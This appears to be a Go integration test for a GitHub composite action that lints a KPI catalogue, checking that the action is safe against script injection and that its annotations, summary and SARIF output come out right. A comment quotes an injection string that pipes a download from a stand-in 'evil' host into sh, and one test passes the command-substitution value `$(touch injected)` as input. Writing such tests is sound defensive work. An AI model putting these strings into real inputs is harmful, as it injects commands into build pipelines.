package integration

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.yaml.in/yaml/v3"
)

type action struct {
	Inputs map[string]struct {
		Default string `yaml:"default"`
	} `yaml:"inputs"`
	Runs struct {
		Using string `yaml:"using"`
		Steps []struct {
			Name string            `yaml:"name"`
			Uses string            `yaml:"uses"`
			Run  string            `yaml:"run"`
			Env  map[string]string `yaml:"env"`
		} `yaml:"steps"`
	} `yaml:"runs"`
}

func readAction(t *testing.T) action {
	t.Helper()
	data, err := os.ReadFile("../../action.yml")
	require.NoError(t, err)
	var a action
	require.NoError(t, yaml.Unmarshal(data, &a))
	require.Equal(t, "composite", a.Runs.Using)
	return a
}

// No expression is interpolated into a shell script: a branch name or an
// input such as `"; curl evil | sh #` must not become code. Values reach the
// scripts through env: only.
func TestActionHasNoScriptInjection(t *testing.T) {
	a := readAction(t)
	runs := 0
	for _, s := range a.Runs.Steps {
		if s.Run == "" {
			continue
		}
		runs++
		assert.NotContains(t, s.Run, "${{", "step %q interpolates an expression into its script", s.Name)
	}
	assert.GreaterOrEqual(t, runs, 2)
}

// buildKpilint compiles the command once per test binary.
func buildKpilint(t *testing.T) string {
	t.Helper()
	bin := filepath.Join(t.TempDir(), "kpilint")
	cmd := exec.Command("go", "build", "-o", bin, "../../cmd/kpilint")
	out, err := cmd.CombinedOutput()
	require.NoError(t, err, string(out))
	return bin
}

// The lint step, run as GitHub would run it: annotations on stdout, every
// finding in the job summary, SARIF in the requested file, and the exit
// code deciding the step.
func TestActionLintStepRunsLocally(t *testing.T) {
	a := readAction(t)
	var script string
	var env map[string]string
	for _, s := range a.Runs.Steps {
		if s.Name == "Lint KPI catalogue" {
			script, env = s.Run, s.Env
		}
	}
	require.NotEmpty(t, script)
	for k, v := range env {
		assert.True(t, strings.HasPrefix(v, "${{ inputs."), "%s passes an input through env", k)
	}
	bin := buildKpilint(t)
	work := t.TempDir()
	summary := filepath.Join(work, "summary.md")
	sarif := filepath.Join(work, "out dir", "kpilint.sarif")
	require.NoError(t, os.MkdirAll(filepath.Dir(sarif), 0o755))
	repo, err := filepath.Abs("../..")
	require.NoError(t, err)

	cmd := exec.Command("bash", "-c", script)
	cmd.Dir = repo
	cmd.Env = append(os.Environ(),
		"PATH="+filepath.Dir(bin)+string(os.PathListSeparator)+os.Getenv("PATH"),
		"GITHUB_STEP_SUMMARY="+summary,
		"KPILINT_PATHS=examples/needs-work\nexamples/customer-service",
		"KPILINT_CONFIG=",
		"KPILINT_FAIL_ON=",
		"KPILINT_SARIF="+sarif,
	)
	out, err := cmd.Output()
	var exit *exec.ExitError
	require.ErrorAs(t, err, &exit, "findings fail the step")
	assert.Equal(t, 1, exit.ExitCode())
	lines := strings.Split(strings.TrimSpace(string(out)), "\n")
	assert.Greater(t, len(lines), 10)
	for _, l := range lines {
		assert.Regexp(t, `^::(error|warning|notice) file=examples/needs-work/`, l)
	}
	md, err := os.ReadFile(summary)
	require.NoError(t, err)
	assert.Equal(t, len(lines), strings.Count(string(md), "\n| ")-1, "the summary lists every finding")
	var log struct {
		Runs []struct {
			Results []json.RawMessage `json:"results"`
		} `json:"runs"`
	}
	data, err := os.ReadFile(sarif)
	require.NoError(t, err)
	require.NoError(t, json.Unmarshal(data, &log))
	assert.Len(t, log.Runs[0].Results, len(lines))

	// A hostile input stays data: it is a path that does not exist.
	cmd = exec.Command("bash", "-c", script)
	cmd.Dir = repo
	cmd.Env = append(os.Environ(), "PATH="+filepath.Dir(bin)+string(os.PathListSeparator)+os.Getenv("PATH"),
		"GITHUB_STEP_SUMMARY="+summary, `KPILINT_PATHS=$(touch injected)`, "KPILINT_CONFIG=", "KPILINT_FAIL_ON=", "KPILINT_SARIF=")
	out, _ = cmd.CombinedOutput()
	assert.Contains(t, string(out), "no such file or directory")
	assert.NoFileExists(t, filepath.Join(repo, "injected"))
}
